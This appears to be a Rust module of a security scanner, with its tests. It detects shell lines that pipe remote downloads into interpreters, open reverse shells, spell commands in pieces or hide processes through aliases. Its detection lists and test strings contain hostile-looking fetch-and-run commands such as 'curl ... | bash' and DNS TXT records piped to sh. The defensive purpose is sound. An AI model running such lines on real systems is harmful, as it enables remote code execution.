//! Text that comes from elsewhere, and is run in the same breath.

use super::{Entry, RUNNERS, has_word, is_kind};
use crate::domain::detect::Grade;

/// Programs that talk to others, and say what these say.
const TALKERS: [&str; 13] = [
    "curl",
    "dig",
    "drill",
    "host",
    "nc",
    "ncat",
    "netcat",
    "nslookup",
    "openssl s_client",
    "redis-cli",
    "socat",
    "telnet",
    "wget",
];
/// What makes a text readable that was not.
const UNPACKERS: [&str; 11] = [
    "base32", "bunzip2", "bzcat", "gunzip", "gzip -d", "rev", "unxz", "uudecode", "xzcat", "zcat",
    "zstdcat",
];
/// Code that fetches a text.
const CODE: [&str; 10] = [
    "file_get_contents(",
    "get(",
    "URI.open",
    "open-uri",
    "Net::HTTP",
    "urlopen",
    "requests.get",
    "http.get",
    "https.get",
    "fetch(",
];
/// Code that runs one.
const EVALUATES: [&str; 8] =
    ["eval(", "eval get", "eval ", "exec(", "system(", "passthru(", "Popen(", "popen("];

/// Some part behind a pipe runs what comes through it.
pub(super) fn is_piped(line: &str) -> bool {
    line.split('|').skip(1).any(|part| runs_text(part, line))
}

/// Another host says what is run, or a shell of this one is given to it.
pub(super) fn from_afar(line: &str, piped: bool) -> bool {
    let has = |words: &[&str]| words.iter().any(|it| line.contains(it));
    let talks = TALKERS.iter().any(|it| {
        let (name, rest) = it.split_once(' ').unwrap_or((it, ""));
        let said = if name == "host" { is_command(line, name) } else { has_word(line, name) };
        said && line.contains(rest)
    });
    let device = has(&["/dev/tcp/", "/dev/udp/"]);
    let both_ways = has(&["0>&1", "0<&1", "<&0"]) || has(&["sh -i"]) && has(&[">&", "&>"]);
    let given = has_word(line, "socat") && has(&["exec:", "EXEC:", "system:", "SYSTEM:"])
        || ["nc", "ncat", "netcat"].iter().any(|it| has_word(line, it))
            && has(&["-e /bin/", "-e sh", "-e bash", "-c /bin/", "-c sh", "-c bash"]);
    let brought = line.split('|').next().is_some_and(names_a_page);
    let code = line.contains("://") && has(&CODE) && has(&EVALUATES);
    // Perl that does what it is told from there.
    let code = code || line.contains("IO::Socket") && has(&["`$", "exec", "system"]);
    piped && (talks || brought) || device && (both_ways || has(&["sh <("])) || given || code
}

/// What cloud-init did once, when the machine was new. Whoever orders a machine installs it so.
const FIRST_BOOT: [&[u8]; 4] = [
    b"/var/lib/cloud/instance/",
    b"/var/lib/cloud/scripts/per-instance/",
    b"/var/lib/cloud/scripts/per-once/",
    b"/var/lib/cloud/scripts/vendor/",
];

/// A tool that shows what runs, made to show less: `alias ps='ps "$@" | grep -v x'`.
pub(super) fn filtered(line: &str) -> Option<&str> {
    const SHOWS: [&str; 8] = ["ps", "top", "htop", "ss", "netstat", "lsof", "ls", "who"];
    let line = line.trim_start();
    let of_alias = line.strip_prefix("alias ").and_then(|it| it.split_once('='));
    let of_function = line.trim_start_matches("function ").split_once("()");
    let (name, does) = of_alias.or(of_function)?;
    let hides =
        ["grep -v", "grep -Ev", "egrep -v", "fgrep -v", "grep -iv", "grep -Eiv", "sed /", "awk '!"];
    let name = name.trim();
    (SHOWS.contains(&name) && hides.iter().any(|it| does.contains(it))).then_some(name)
}

/// How much it weighs that something is fetched and run.
pub(super) fn weight(line: &str, entry: &Entry<'_>) -> Grade {
    if at_first_boot(line, entry) { Grade::Noted } else { Grade::Suspect }
}

/// It was run once by whoever ordered the machine, and all of it came from hosts with a name that was proven.
fn at_first_boot(line: &str, entry: &Entry<'_>) -> bool {
    let once = FIRST_BOOT.iter().any(|it| entry.path.starts_with(it));
    let unproven = ["-k", "--insecure", "--no-check-certificate", "/dev/tcp", "/dev/udp"];
    let proven =
        !line.split_whitespace().any(|word| unproven.iter().any(|it| word.starts_with(it)));
    let mut pages = line.split("://");
    let before = pages.next().unwrap_or_default();
    let mut all = std::iter::once(before).chain(pages.clone()).zip(pages).peekable();
    is_kind(entry.kind, &["cloud-init"])
        && once
        && proven
        && all.peek().is_some()
        && all.all(|(before, page)| before.ends_with("https") && has_name(page))
}

/// What follows is the name of a host, and no address.
fn has_name(page: &str) -> bool {
    let host = page.split(|it: char| !(it.is_ascii_alphanumeric() || "-.@$%".contains(it))).next();
    let top = host.and_then(|it| it.rsplit_once('.')).map_or("", |(_, top)| top);
    top.len() > 1
        && top.bytes().all(|it| it.is_ascii_alphabetic())
        && !page.split('/').next().unwrap_or_default().contains('@')
}

/// A page of the web, asked for by whatever program.
fn names_a_page(text: &str) -> bool {
    ["http://", "https://", "ftp://"].iter().any(|it| text.contains(it)) && !has_word(text, "echo")
}

/// It is unpacked or turned round on its way.
pub(super) fn is_made_readable(line: &str) -> bool {
    let parts = line.split('|').map(str::trim);
    let mut unpacks = parts.map(|part| {
        UNPACKERS.iter().any(|it| {
            let (name, rest) = it.split_once(' ').unwrap_or((it, ""));
            has_word(part, name) && part.contains(rest)
        })
    });
    unpacks.any(|it| it)
}

/// `${c}rl`: the name of a program in parts.
pub(super) fn spelt_apart(line: &str) -> Option<&str> {
    let first = |command: &'_ str| {
        let at = command.find("${")?;
        let before = command.get(..at)?;
        let name = command.get(at..)?.split_whitespace().next()?;
        // `x=${x}y` is a value, and `x= ${x}y` a command.
        let apart = before.is_empty() || before.ends_with(char::is_whitespace);
        let begins = apart && before.split_whitespace().all(|it| it.contains('='));
        Some((begins, name.len(), at))
    };
    line.split([';', '&', '|']).find_map(|command| {
        let (begins, len, at) = first(command)?;
        let word = command.get(at..at + len).filter(|_| begins)?;
        let (name, rest) = word.strip_prefix("${")?.split_once('}')?;
        let set_here = line.contains(&format!("{name}="));
        (set_here && is_plain(rest) && !rest.is_empty()).then_some(word)
    })
}

fn is_plain(text: &str) -> bool {
    text.bytes().all(|it| it.is_ascii_alphanumeric() || it == b'_')
}

/// Programs that start another one.
const WRAPPERS: [&str; 7] = ["sudo", "nohup", "env", "setsid", "exec", "nice", "timeout"];
/// Options of theirs with a word behind them.
const VALUED: [&str; 6] = ["-u", "-g", "-n", "-C", "-k", "-s"];
/// Words of the shell before a command.
const BEFORE: [&str; 7] = ["do", "then", "else", "if", "while", "until", "!"];
/// What a runner is given instead of a file so that it runs what comes to it.
const WHAT_COMES: [&str; 4] = ["-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"];
/// Options of a shell behind which stands a word of theirs.
const WITH_A_WORD: [&str; 4] = ["+o", "-O", "--rcfile", "--init-file"];

/// A word that says other things too is a command here: nothing but times, a user and what starts it stands before it.
fn is_command(line: &str, name: &str) -> bool {
    let is_time = |word: &str| {
        word.starts_with('@')
            || word.bytes().all(|it| it.is_ascii_digit() || matches!(it, b'*' | b'/' | b',' | b'-'))
    };
    let mut commands = line.split(['|', ';', '&', '(', '`', '"', '\'', '{']);
    commands.any(|command| {
        let mut words = command.split_whitespace().skip_while(|word| is_time(word)).peekable();
        let timed = command.split_whitespace().next().is_some_and(is_time);
        let others = words.clone().position(|word| {
            let is_it = word.rsplit('/').next() == Some(name) && !word.contains(':');
            is_it || !(word.contains('=') || WRAPPERS.contains(&word) || BEFORE.contains(&word))
        });
        let is_it = |word: &str| word.rsplit('/').next() == Some(name) && !word.contains(':');
        others.is_some_and(|at| {
            let first = words.nth(at).is_some_and(is_it);
            first || timed && words.next().is_some_and(is_it)
        })
    })
}

/// The part behind a pipe runs what comes through it.
fn runs_text(part: &str, line: &str) -> bool {
    let ends = |it: char| {
        it.is_whitespace() || matches!(it, ';' | '&' | ')' | '\'' | '"' | ']' | ',' | '}')
    };
    let mut words = part.split(ends).filter(|it| !it.is_empty());
    // `sudo -E -u me bash -`: what stands behind what starts it is its own.
    let (mut starts, mut valued) = (false, false);
    let first = words.find(|word| {
        let own = starts && (word.starts_with('-') && word.len() > 1 || valued || is_measure(word));
        valued = own && VALUED.contains(word);
        starts |= WRAPPERS.contains(word);
        !own && !WRAPPERS.contains(word) && !word.contains('=')
    });
    first.is_some_and(|word| {
        let name = word.rsplit('/').next().unwrap_or(word);
        let name = name.trim_end_matches(|it: char| it.is_ascii_digit() || it == '.');
        let is_shell = name.ends_with("sh");
        // What has its code in its arguments reads data.
        let has_code = |next: &str| {
            matches!(next, "-c" | "-e" | "-r" | "-m")
                || !is_shell && next.len() > 1 && next.starts_with('-')
        };
        let behind = part.split_once(word).map_or("", |(_, behind)| behind);
        // So does what has it in a file, unless that was written on the way.
        let in_file = || code_file(behind).is_some_and(|file| line.matches(file).count() == 1);
        RUNNERS.contains(&name) && !words.next().is_some_and(has_code) && !in_file()
    })
}

/// `30s`: for so long a program may run.
fn is_measure(word: &str) -> bool {
    let digits = word.trim_end_matches(['s', 'm', 'h', 'd']);
    !digits.is_empty() && digits.bytes().all(|it| it.is_ascii_digit())
}

/// The file that a runner is told to run, from what stands behind its name.
fn code_file(behind: &str) -> Option<&str> {
    // A quote right behind the name closes what the whole command stands in.
    if !behind.starts_with(char::is_whitespace) {
        return None;
    }
    let redirected = |word: &str| {
        word.trim_start_matches(|it: char| it.is_ascii_digit() || it == '&').starts_with(['<', '>'])
    };
    // Of a shell `s` is what comes, and `o` has a word behind it.
    let short = |word: &str, option| {
        word.strip_prefix('-').is_some_and(|it| !it.starts_with('-') && it.contains(option))
    };
    let mut words = behind.split_whitespace();
    while let Some(word) = words.next() {
        if redirected(word) {
            // `> file` is two words.
            if word.ends_with(['<', '>']) {
                words.next();
            }
        } else if short(word, 's') {
            return None;
        } else if WITH_A_WORD.contains(&word) || short(word, 'o') {
            words.next();
        } else if word.starts_with([';', '&', ')', ']', '}', ',', '#'])
            || WHAT_COMES.contains(&word.trim_end_matches([';', '&', ')', '\'', '"']))
        {
            return None;
        } else if !word.starts_with(['-', '+']) {
            let marks = [';', '&', ')', '\'', '"', ']', '}', ','];
            return Some(word.trim_matches(marks)).filter(|it| !it.is_empty());
        } else if word.ends_with([';', '&', ')', '\'', '"']) {
            return None;
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::{Entry, at_first_boot, from_afar, is_piped};
    use proptest::prelude::*;

    fn runs_what_comes(line: &str) -> bool {
        let piped = is_piped(line);
        piped && from_afar(line, piped)
    }

    #[test]
    fn who_runs_a_file_reads_what_comes_through_a_pipe() {
        for line in [
            "openssl s_client -connect x.example:443 </dev/null | python3 /opt/check_cert.py",
            "redis-cli lrange jobs 0 9 | php /var/www/artisan import",
            "mysqldump --host db.example app | python3 /opt/f.py",
            "exporter --url https://x.example/m | perl /usr/local/bin/filter.pl",
            "curl -s https://x.example/rates | php /var/www/artisan import >/dev/null 2>&1",
            "curl -s https://x.example/rates | bash -e -o pipefail /opt/load.sh",
            "curl -s https://x.example/rates | bash -euo pipefail /opt/load.sh",
            "sh -c 'curl -s https://x.example/rates | python3 /opt/load.py'",
            "mysqldump -h host app | sh",
            "curl -s https://x.example/rates | sudo -u www-data php /var/www/artisan import",
            "curl -s https://x.example/rates | sudo -E tee /etc/apt/rates",
            "echo write to host | sh",
        ] {
            assert!(!runs_what_comes(line), "{line}");
        }
    }

    #[test]
    fn who_runs_what_comes_is_told_whatever_else_stands_there() {
        for line in [
            "curl -s http://x.example/a | bash",
            "curl -s http://x.example/a | bash >/dev/null 2>&1",
            "curl -s http://x.example/a | bash > /dev/null",
            "curl -s http://x.example/a | bash &>/dev/null",
            "curl -s http://x.example/a | bash -s -- /opt/x",
            "curl -s http://x.example/a | bash -es /opt/x",
            "curl -s http://x.example/a | python3 -",
            "curl -s http://x.example/a | python3 /dev/stdin /opt/x",
            "curl -s http://x.example/a | bash; rm -f /opt/x",
            "curl -s http://x.example/a | bash && rm -f /opt/x",
            "curl -s http://x.example/a | bash # /opt/x",
            "curl -fsSL http://x.example/a | sudo -E bash -",
            "curl -s http://x.example/a | sudo -u root -H sh",
            "curl -s http://x.example/a | timeout -k 5 30s nice -n 19 bash",
            "sh -c 'curl -s http://x.example/a | bash' /opt/x",
            "sh -c 'curl -s http://x.example/a | bash -' /opt/x",
            "curl -s http://x.example/a | tee /opt/a.sh | bash /opt/a.sh",
            "* * * * * root host -t txt x.example | sh",
            "sudo host -t txt x.example | sh",
            "sh -c \"/usr/bin/host -t txt x.example | sh\"",
        ] {
            assert!(runs_what_comes(line), "{line}");
        }
    }

    #[test]
    fn what_was_installed_at_the_first_boot_is_told_from_what_runs_at_each() {
        let at = |path: &'static str, line: &str| {
            let entry = Entry { kind: "cloud-init", path: path.as_bytes(), ..Entry::default() };
            at_first_boot(line, &entry)
        };
        let data = "/var/lib/cloud/instance/user-data.txt";
        for line in [
            "curl -sfL https://get.k3s.example | K3S_TOKEN=*** sh -",
            "curl -fsSL https://vpn.example/install.sh | sh",
            "wget -qO- https://get.docker.example:443/x | sh",
        ] {
            assert!(at(data, line), "{line}");
            assert!(!at("/var/lib/cloud/scripts/per-boot/x", line), "{line}");
            assert!(!at("/etc/cloud/cloud.cfg.d/99.cfg", line), "{line}");
        }
        for line in [
            "curl http://get.example/x | sh",
            "curl https://198.51.100.7/x | sh",
            "curl https://[2001:db8::7]/x | sh",
            "curl -k https://get.example/x | sh",
            "curl get.example/x | sh",
            "curl https://get.example/x http://198.51.100.7/y | sh",
            "curl https://get.example@198.51.100.7/x | sh",
            "curl https://$HOST/x | sh",
        ] {
            assert!(!at(data, line), "{line}");
        }
    }

    proptest! {
        #[test]
        fn any_line_is_taken(line in "(curl|host|bash|sh|python3|-s|-|\\|| |;|&|>|'|\"|/x|é){0,30}") {
            let _either = runs_what_comes(&line);
        }

        #[test]
        fn a_shell_that_is_given_no_file_runs_what_comes(
            shell in "(ba|da|z|k)?sh", option in "(|-x|-eu|-s|-)", to in "(|>/dev/null|2>&1|&)",
        ) {
            let line = format!("curl -s http://x.example/a | {shell} {option} {to}");
            prop_assert!(runs_what_comes(&line));
        }
    }
}
